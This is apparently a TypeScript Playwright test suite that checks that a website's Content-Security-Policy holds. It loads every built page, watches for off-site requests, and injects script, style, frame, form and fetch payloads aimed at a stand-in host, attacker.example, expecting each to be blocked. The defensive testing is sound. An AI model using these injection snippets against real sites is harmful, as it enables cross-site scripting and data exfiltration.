import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { sharedBrowser, openPage } from '../support/browser.ts';
import { pagesOf, templates } from '../support/pages.ts';

let browser: Browser;
beforeAll(async () => (browser = await sharedBrowser()));
afterAll(() => browser.close());

const at = (path: string) => new URL(path.slice(1), inject('siteUrl')).href;

describe('the Content-Security-Policy in a browser', () => {
  test('no page violates it, asks another host for anything, or says anything on the console', async () => {
    const pages = pagesOf(inject('dist'));
    expect(pages.length).toBeGreaterThan(25);
    // Nobody looks: a small window has little to paint.
    const { page, watch } = await openPage(browser, { viewport: { width: 320, height: 80 } });
    for (const path of pages) await page.goto(at(path), { waitUntil: 'load' });
    expect(watch.violations).toEqual([]);
    expect(watch.errors).toEqual([]);
    expect(watch.requests.length).toBeGreaterThanOrEqual(pages.length);
    expect(watch.requests.filter((url) => !url.startsWith(inject('siteUrl')))).toEqual([]);
    await page.context().close();
  });

  test('a search violates nothing', async () => {
    const { page, watch } = await openPage(browser);
    await page.goto(at('/search/?q=promotion'));
    await page.locator('.search-results > li').first().waitFor();
    expect(watch.violations).toEqual([]);
    await page.context().close();
  });

  const injections = [
    [
      'an inline script',
      `const s = document.createElement('script'); s.textContent = 'window.attacked = 1'; document.body.append(s)`,
      'script-src-elem',
    ],
    [
      'an event handler',
      `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.attacked = 1">')`,
      'script-src-attr',
    ],
    [
      'a javascript: link',
      `const a = document.createElement('a'); a.href = 'javascript:window.attacked = 1'; document.body.append(a); a.click()`,
      'script-src-elem',
    ],
    [
      'a script of another host',
      `const s = document.createElement('script'); s.src = 'https://attacker.example/x.js'; document.body.append(s)`,
      'script-src-elem',
    ],
    ['eval', `setTimeout('window.attacked = 1')`, 'script-src'],
    [
      'an inline style',
      `const s = document.createElement('style'); s.textContent = 'body { display: none }'; document.body.append(s)`,
      'style-src-elem',
    ],
    [
      'a style attribute',
      `document.body.insertAdjacentHTML('beforeend', '<p style="position:fixed">x</p>')`,
      'style-src-attr',
    ],
    [
      'a picture of another host',
      `const i = new Image(); i.src = 'https://attacker.example/x.png'; document.body.append(i)`,
      'img-src',
    ],
    [
      'an object',
      `const o = document.createElement('object'); o.data = '/favicon.svg'; document.body.append(o)`,
      'object-src',
    ],
    [
      'a frame of another host',
      `const f = document.createElement('iframe'); f.src = 'https://attacker.example/'; document.body.append(f)`,
      'frame-src',
    ],
    [
      'a base element',
      `const b = document.createElement('base'); b.href = 'https://attacker.example/'; document.head.append(b)`,
      'base-uri',
    ],
    [
      'a form to another host',
      `const f = document.createElement('form'); f.action = 'https://attacker.example/'; document.body.append(f); f.submit()`,
      'form-action',
    ],
    ['a request to another host', `fetch('https://attacker.example/').catch(() => 0)`, 'connect-src'],
  ] as const;

  test.each(injections)('%s does not run', async (_name, code, directive) => {
    const { page, watch } = await openPage(browser);
    const left: string[] = [];
    // Whatever the policy let through would be a request here; the machine's closed network must not be what stops it.
    await page.route('https://attacker.example/**', (route) => {
      left.push(route.request().url());
      return route.fulfill({ body: 'window.attacked = 1', contentType: 'text/javascript' });
    });
    await page.goto(at(templates['sample thread']));
    await page.evaluate(code);
    await expect.poll(() => watch.violations.join('\n'), { timeout: 5_000 }).toContain(directive);
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
    expect(left).toEqual([]);
    await page.context().close();
  });
});
